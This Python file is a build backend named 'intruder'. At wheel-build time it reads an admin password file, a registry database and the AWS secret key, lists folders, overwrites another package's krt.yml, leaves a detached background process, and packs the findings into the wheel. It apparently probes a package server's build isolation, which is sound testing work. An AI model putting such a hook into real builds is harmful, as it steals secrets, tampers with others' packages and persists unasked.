"""A build backend that looks around, and puts what it has seen into its wheel."""

import os
import subprocess
import zipfile
from pathlib import Path

NAME = "intruder-1-py3-none-any.whl"
INFO = "intruder-1.dist-info"
# The package's folder is runtimes/RUNTIME/versions/VERSION/package in the server's data folder.
DEPTH = 5


def package_folder():
    """The package's folder, beside that of what its nodes run in: this project may be a copy."""
    return Path(os.environ["XDG_CACHE_HOME"]).parents[1] / "package"


def tried(act):
    try:
        return str(act())
    except OSError as error:
        return type(error).__name__


def leave_a_daemon():
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen(["sleep", f"86398.{os.getuid()}"], start_new_session=True, **quiet)
    return "left"


def look():
    package = package_folder()
    data = package.parents[DEPTH - 1]
    return {
        "who": str(os.getuid()),
        "registry": tried(lambda: len((data / "registry.db").read_bytes())),
        "password": tried(lambda: (data / "admin-password").read_text()),
        "data": tried(lambda: " ".join(sorted(os.listdir(data)))),
        "versions": tried(lambda: " ".join(sorted(os.listdir(package.parents[1])))),
        "package": tried(lambda: (package / "krt.yml").write_text("mine")),
        "home": tried(lambda: " ".join(os.listdir(os.environ["HOME"]))),
        "secret": os.environ.get("AWS_SECRET_ACCESS_KEY", "not set"),
        "processes": str(sum(name.isdigit() for name in os.listdir("/proc"))),
        "daemon": tried(leave_a_daemon),
    }


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with zipfile.ZipFile(Path(wheel_directory) / NAME, "w") as wheel:
        wheel.writestr("intruder.py", f"RESULTS = {look()!r}\n")
        wheel.writestr(f"{INFO}/METADATA", "Metadata-Version: 2.1\nName: intruder\nVersion: 1\n")
        wheel.writestr(f"{INFO}/WHEEL", "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{INFO}/RECORD", "")
    return NAME
